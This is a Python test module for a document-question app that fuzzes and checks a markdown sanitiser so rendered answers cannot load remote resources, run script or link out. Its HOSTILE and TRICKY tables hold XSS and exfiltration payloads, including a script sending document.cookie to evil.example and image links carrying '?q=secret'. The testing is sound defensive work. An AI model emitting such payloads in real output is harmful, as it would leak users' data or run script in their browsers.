"""The rendered answer can never load a remote resource, run script or link outside.

``safe_markdown`` is checked by rendering its output with a CommonMark parser
(raw HTML escaped, as Streamlit does) and looking for anything active, for
hostile inputs written by hand and for generated ones; and the app is checked
never to turn Streamlit's HTML escaping off.
"""

from __future__ import annotations

import inspect
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from askdocs.types import Answer, Citation
from eval.attacks import rendered_html, unsafe_render
from generation.render import citation_heading, safe_markdown, timing_line
from tests.conftest import ROOT

pytestmark = pytest.mark.unit

HOSTILE = {
    "inline image": "![x](https://evil.example/p.png?q=secret)",
    "image with title": '![x](https://evil.example/p.png "t")',
    "reference image": "![a][1]\n\n[1]: http://evil.example/a.png",
    "collapsed reference image": "![a][]\n\n[a]: http://evil.example/a.png",
    "shortcut reference image": "![a]\n\n[a]: http://evil.example/a.png",
    "image in a link": "[![x](http://evil.example/i.png)](http://evil.example)",
    "img onerror": '<img src=x onerror="alert(1)">',
    "script": "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "svg onload": "<svg onload=alert(1)>",
    "javascript link": "[click](javascript:alert(document.cookie))",
    "javascript link with entity": "[click](jav&#x61;script:alert(1))",
    "data URI image": "![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "autolink": "<https://evil.example/r.png>",
    "email autolink": "<mailto:a@evil.example>",
    "bare URL": "see https://evil.example/x and www.evil.example/y",
    "entities spelling an image": "&#33;[x](https://evil.example/p.png)",
    "escaped bang then image": "\\![x](https://evil.example/p.png)",
    "image after a code span": "`code` ![x](https://evil.example/p.png)",
    "unclosed code span": "`open ![x](https://evil.example/p.png)",
    "fence in a list item ended early": "- item\n  ```\n![x](https://evil.example/p.png)\n  ```",
    "carriage returns": "```\rx\r```\r![x](https://evil.example/p.png)",
    "html block": "<div>\n![x](https://evil.example/p.png)\n</div>",
    "nested brackets": "![a [b] c](https://evil.example/p.png)",
    "angle destination": "![x](<https://evil.example/p.png>)",
}


# Inputs that are harmless as written but would not be if this module misread where code begins.
TRICKY = {
    "escaped backtick": "\\`x` ![x](https://evil.example/p.png)`",
    "code span across lines": "`a\n![x](https://evil.example/p.png)\nb`",
    "url in a fence's info string": "```http://evil.example/p.png\nx\n```",
    "escaped slashes": "https:\\/\\/evil.example/x",
}


@pytest.mark.parametrize("text", TRICKY.values(), ids=TRICKY.keys())
def test_tricky_markdown_stays_inert(text):
    assert unsafe_render(safe_markdown(text), allow_html=True) == ""


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_renders_to_nothing_active_even_with_html_allowed(text):
    assert unsafe_render(text, allow_html=True), "the check itself must see the raw input as hostile"
    shown = safe_markdown(text)
    assert unsafe_render(shown, allow_html=True) == "", rendered_html(shown, allow_html=True)


def test_the_check_sees_what_the_renderer_makes():
    assert "<img" in rendered_html("![x](http://e.example/p.png)")
    assert unsafe_render("plain **bold** text, `code`, a < b") == ""


def test_citations_code_and_urls_still_read_naturally():
    shown = safe_markdown(
        "Use `key=str.lower` [1], see https://docs.python.org/3/.\n\n```python\nitems.sort(key=lambda x: x[0])\n```"
    )
    html = rendered_html(shown)
    assert "<code>key=str.lower</code> [1], see <code>https://docs.python.org/3/</code>." in html
    assert "items.sort(key=lambda x: x[0])" in html  # the fenced block is untouched


def test_a_file_name_in_a_citation_heading_is_made_safe():
    citation = Citation(1, "c", "![x](http:__evil.example_p.png).pdf", 2, 2, "snippet")
    assert unsafe_render(citation_heading(citation)) == ""


# Text built from the characters that make markdown active, plus a few hostile words.
PIECES = st.sampled_from(
    [
        "!",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "`",
        "```",
        "~~~",
        "\\",
        "\n",
        "\r",
        " ",
        "  ",
        ":",
        "/",
        "&#33;",
        "&lt;",
        "http://e.example/p.png",
        "https://",
        "www.e.example",
        "javascript:",
        "img",
        "src=x",
        "a",
        "-",
        "*",
        "#",
        "    ",
        ">",
        "script",
        "\t",
        "data:",
        "mailto:",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_no_generated_input_renders_anything_active(text):
    shown = safe_markdown(text)
    assert unsafe_render(shown, allow_html=True) == "", (text, shown, rendered_html(shown, allow_html=True))


def test_the_app_never_allows_raw_html():
    import streamlit

    assert inspect.signature(streamlit.markdown).parameters["unsafe_allow_html"].default is False
    for path in (ROOT / "app").rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        assert not re.search(r"unsafe_allow_html\s*=\s*True", source), path
        assert "st.html(" not in source and "components.html(" not in source, path


def test_the_answer_line_names_the_routing_tier_only_when_routing_chose_one():
    plain = Answer(
        "q", "q", "a", (), (), False, timings={"retrieve": 0.1, "total": 2.0}, backend="local:qwen"
    )
    routed = Answer(
        "q",
        "q",
        "a",
        (),
        (),
        False,
        timings={"retrieve": 0.1, "total": 2.0},
        backend="local:smol",
        tier="fast",
        tier_reason="short factual question",
    )
    assert timing_line(plain) == "retrieval 0.10 s · total 2.00 s · local:qwen"
    assert timing_line(routed).endswith("local:smol · fast model (short factual question)")
